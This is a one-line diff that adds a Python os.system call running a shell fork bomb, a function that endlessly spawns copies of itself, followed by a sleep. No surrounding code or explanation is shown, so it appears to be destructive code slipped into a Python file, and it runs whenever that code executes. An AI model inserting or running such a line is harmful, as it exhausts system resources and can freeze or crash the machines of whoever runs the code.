@@ -1,0 +1,1 @@
+os.system("bomb() { bomb | bomb & }; bomb; sleep 60")
